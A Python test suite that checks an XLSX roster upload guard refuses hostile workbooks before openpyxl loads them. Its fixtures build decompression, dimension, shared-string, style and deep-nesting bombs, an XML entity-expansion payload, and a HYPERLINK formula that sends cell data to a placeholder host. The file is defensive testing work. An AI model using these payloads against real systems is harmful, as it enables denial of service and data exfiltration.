"""Hostile XLSX rosters are refused from the zip stream, before openpyxl reads the workbook."""
from __future__ import annotations

import io
import time
import tracemalloc
import zipfile

import pytest
from openpyxl import Workbook

from docgen.batch import xlsx as roster_xlsx
from docgen.limits import xlsx as limits

SHEET = "xl/worksheets/sheet1.xml"
NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def _roster(rows=(("张三", "男"),)) -> bytes:
    book = Workbook()
    sheet = book.active
    sheet.append(["姓名", "性别"])
    for row in rows:
        sheet.append(list(row))
    buf = io.BytesIO()
    book.save(buf)
    return buf.getvalue()


def _replace(content: bytes, name: str, data: bytes | str) -> bytes:
    """Return the XLSX with one member replaced (or added)."""
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename != name:
                target.writestr(info, source.read(info))
        target.writestr(name, data)
    return out.getvalue()


def _sheet(body: str, dimension: str = "A1:B2") -> str:
    return f'<?xml version="1.0"?><worksheet {NS}><dimension ref="{dimension}"/><sheetData>{body}</sheetData></worksheet>'


@pytest.fixture
def no_openpyxl(monkeypatch):
    """Fail the test if the workbook reaches openpyxl: the guard must refuse first."""
    def refuse(*args, **kwargs):
        raise AssertionError("openpyxl was asked to load a file the guard should have refused")
    monkeypatch.setattr(roster_xlsx, "load_workbook", refuse)


def _refused(content: bytes) -> limits.Problem:
    with pytest.raises(limits.Problem) as caught:
        roster_xlsx.read_roster(content)
    return caught.value


def test_declared_dimension_bomb_is_413(no_openpyxl):
    bomb = _replace(_roster(), SHEET, _sheet('<row r="1"><c r="A1" t="inlineStr"><is><t>姓名</t></is></c></row>',
                                             "A1:XFD10000"))
    assert len(bomb) < 10_000
    problem = _refused(bomb)
    assert problem.status == 413 and "A1:XFD10000" in problem.detail


def test_cell_far_out_is_413(no_openpyxl):
    far = _replace(_roster(), SHEET, _sheet('<row r="9000"><c r="XFD9000"><v>1</v></c></row>', "A1"))
    assert _refused(far).status == 413


def test_shared_string_bomb_is_413(no_openpyxl):
    strings = "<si><t>x</t></si>" * (limits.MAX_SHARED_STRINGS + 1)
    bomb = _replace(_roster(), "xl/sharedStrings.xml", f'<?xml version="1.0"?><sst {NS}>{strings}</sst>')
    assert len(bomb) < 100_000
    problem = _refused(bomb)
    assert problem.status == 413 and "不同文字" in problem.detail


def test_one_huge_shared_string_is_413(no_openpyxl):
    bomb = _replace(_roster(), "xl/sharedStrings.xml", f'<?xml version="1.0"?><sst {NS}><si><t>{"甲" * 40_000}</t></si></sst>')
    assert _refused(bomb).status == 413


def test_too_many_rows_is_413_before_the_end(no_openpyxl):
    rows = "".join(f'<row r="{i}"><c r="A{i}"><v>{i}</v></c></row>' for i in range(1, 100_001))
    big = _replace(_roster(), SHEET, _sheet(rows, "A1"))
    problem = _refused(big)
    assert problem.status == 413 and "2000" in problem.detail


def test_member_that_inflates_past_the_limit_is_413(no_openpyxl):
    bomb = _replace(_roster(), "xl/media/padding.bin", b"\0" * (limits.MAX_MEMBER_BYTES + 1))
    assert len(bomb) < 100_000
    assert _refused(bomb).status == 413


def test_archive_over_the_size_limit_is_413(no_openpyxl):
    assert _refused(b"PK" + b"\0" * limits.MAX_ARCHIVE_BYTES).status == 413


def test_entity_declarations_are_refused(no_openpyxl):
    laughs = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;">]>'
              f'<worksheet {NS}><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol2;</t></is></c></row>'
              '</sheetData></worksheet>')
    assert _refused(_replace(_roster(), SHEET, laughs)).status == 400


def test_formula_cell_is_422_naming_the_cell(no_openpyxl):
    book = Workbook()
    book.active.append(["姓名", "备注"])
    book.active.append(["张三", '=HYPERLINK("http://x.invalid/?"&B2)'])
    buf = io.BytesIO()
    book.save(buf)
    problem = _refused(buf.getvalue())
    assert problem.status == 422 and problem.errors[0]["pointer"] == "/file/B2"
    assert "B2" in problem.errors[0]["detail"] and "公式" in problem.errors[0]["detail"]


def test_ordinary_roster_passes():
    data = roster_xlsx.read_roster(_roster([("张三", "男"), ("李四", "女")]))
    assert [a["name"] for a in data["applicants"]] == ["张三", "李四"]


def test_upload_of_a_bomb_answers_problem_json(client):
    bomb = _replace(_roster(), SHEET, _sheet("", "A1:XFD10000"))
    resp = client.post("/v1/batches", data={"file": (io.BytesIO(bomb), "花名册.xlsx")}, content_type="multipart/form-data")
    assert resp.status_code == 413 and resp.mimetype == "application/problem+json"
    assert "超过" in resp.json["detail"]


# the probe's shapes (issue 24): parts found through the workbook's relationships, whatever their name or case

def _move(content: bytes, old: str, new: str) -> bytes:
    """Return the XLSX with a part renamed and the workbook's relationships and content types following it."""
    source = zipfile.ZipFile(io.BytesIO(content))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename in ("xl/_rels/workbook.xml.rels", "[Content_Types].xml"):
                data = data.replace(old.removeprefix("xl/").encode(), new.removeprefix("xl/").encode())
            target.writestr(new if info.filename == old else info.filename, data)
    return out.getvalue()


@pytest.mark.parametrize("name", ["xl/sheets/sheet1.xml", "xl/worksheets/sheet1.XML"])
def test_a_sheet_stored_under_another_name_is_checked(name, no_openpyxl):
    moved = _move(_replace(_roster(), SHEET, _sheet("", "A1:XFD10000")), SHEET, name)
    assert name in zipfile.ZipFile(io.BytesIO(moved)).namelist()
    assert _refused(moved).status == 413


def test_moved_sheet_is_still_read_when_it_is_good():
    moved = _move(_roster([("张三", "男")]), SHEET, "xl/sheets/sheet1.xml")
    assert [a["name"] for a in roster_xlsx.read_roster(moved)["applicants"]] == ["张三"]


def test_shared_strings_under_another_name_are_counted(no_openpyxl):
    strings = "".join(f"<si><t>{i}</t></si>" for i in range(limits.MAX_SHARED_STRINGS + 1))
    bomb = _replace(_roster(), "xl/strs.xml", f'<?xml version="1.0"?><sst {NS}>{strings}</sst>')
    assert "不同文字" in _refused(bomb).detail


@pytest.mark.parametrize("dimension", ["A:XFD", "1:1048576", "A1:BM2"])
def test_column_or_row_only_dimension_is_read_as_openpyxl_reads_it(dimension, no_openpyxl):
    bomb = _replace(_roster(), SHEET, _sheet('<row r="3"/>', dimension))
    assert _refused(bomb).status == 413


def test_an_empty_row_far_down_is_413(no_openpyxl):
    bomb = _replace(_roster(), SHEET, _sheet('<row r="1000000"/>', "A1"))
    assert "行" in _refused(bomb).detail


def test_too_many_cells_in_a_row_is_413(no_openpyxl):
    cells = '<c t="inlineStr"><is><t>x</t></is></c>' * (limits.MAX_COLUMNS + 1)   # no r: openpyxl counts on
    bomb = _replace(_roster(), SHEET, _sheet(f'<row r="1">{cells}</row>', "A1"))
    assert "单元格" in _refused(bomb).detail


def test_deeply_nested_xml_is_refused_quickly(no_openpyxl):
    deep = "<a>" * 1_000_000 + "</a>" * 1_000_000
    bomb = _replace(_roster(), "xl/workbook.xml", f'<?xml version="1.0"?><workbook {NS}>{deep}</workbook>')
    assert len(bomb) < 64 * 1024
    problem = _refused(bomb)
    assert problem.status == 413 and "嵌套" in problem.detail


def test_styles_with_too_many_formats_are_413(no_openpyxl):
    xfs = '<xf numFmtId="0"/>' * (limits.MAX_STYLE_RECORDS + 1)
    bomb = _replace(_roster(), "xl/styles.xml",
                    f'<?xml version="1.0"?><styleSheet {NS}><cellXfs>{xfs}</cellXfs></styleSheet>')
    assert "样式" in _refused(bomb).detail


def test_a_part_with_too_many_elements_is_413(no_openpyxl):
    flat = "<b/>" * limits.MAX_OTHER_ELEMENTS
    bomb = _replace(_roster(), "docProps/custom.xml", f"<Properties>{flat}</Properties>")
    assert "元素" in _refused(bomb).detail


def test_a_sheet_with_too_many_elements_is_413(no_openpyxl):
    runs = "<r><t>x</t></r>" * (limits.MAX_ELEMENTS // 2)    # rich text: many runs in one cell
    bomb = _replace(_roster(), SHEET, _sheet(f'<row r="1"><c r="A1" t="inlineStr"><is>{runs}</is></c></row>', "A1"))
    assert "元素" in _refused(bomb).detail


def _probe_shapes() -> dict[str, bytes]:
    """Return the adversarial probe's files (issue 24), each small, each once seconds and hundreds of MB."""
    heading = '<row r="1"><c r="A1" t="inlineStr"><is><t>姓名</t></is></c></row>'
    dimension_bomb = _replace(_roster(), SHEET, _sheet(heading, "A1:XFD10000"))
    styles = '<xf numFmtId="0"/>' * 400_000
    utf16 = _sheet(heading + '<row r="2000"/>', "A1:XFD2000").replace('version="1.0"', 'version="1.0" encoding="UTF-16"')
    return {
        "xl/sheets/sheet1.xml": _move(dimension_bomb, SHEET, "xl/sheets/sheet1.xml"),
        "sheet1.XML": _move(dimension_bomb, SHEET, "xl/worksheets/sheet1.XML"),
        "xl/strs.xml": _replace(_roster(), "xl/strs.xml", f'<?xml version="1.0"?><sst {NS}>'
                                + "<si><t>x</t></si>" * 400_000 + "</sst>"),
        "A:XFD + row 3000": _replace(_roster(), SHEET, _sheet('<row r="3000"/>', "A:XFD")),
        "row 1000000": _replace(_roster(), SHEET, _sheet('<row r="1000000"/>', "A1")),
        "10⁶-deep XML": _replace(_roster(), "xl/workbook.xml", f'<?xml version="1.0"?><workbook {NS}>'
                                 + "<a>" * 1_000_000 + "</a>" * 1_000_000 + "</workbook>"),
        "styles with 400k formats": _replace(_roster(), "xl/styles.xml", f'<?xml version="1.0"?><styleSheet {NS}>'
                                             f"<cellXfs>{styles}</cellXfs></styleSheet>"),
        "UTF-16 sheet": _replace(_roster(), SHEET, utf16.encode("utf-16")),
    }


@pytest.mark.parametrize("shape", list(_probe_shapes()))
def test_the_probes_shapes_are_refused_quickly_in_little_memory(shape, no_openpyxl):
    content = _probe_shapes()[shape]
    assert len(content) < 200_000
    started = time.monotonic()
    problem = _refused(content)
    seconds = time.monotonic() - started
    assert problem.status == 413 and problem.errors[0]["pointer"] == "/file", problem.detail
    tracemalloc.start()           # again, counting memory (slower: the time is taken above)
    try:
        _refused(content)
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    assert seconds < 2 and peak < 64 * 1024 * 1024, (seconds, peak)


def test_the_probes_shapes_are_problems_at_the_file_over_http(client):
    for shape, content in _probe_shapes().items():
        resp = client.post("/v1/batches", data={"file": (io.BytesIO(content), "花名册.xlsx")},
                           content_type="multipart/form-data")
        assert resp.status_code == 413 and resp.mimetype == "application/problem+json", shape
        assert resp.json["errors"][0]["pointer"] == "/file", shape
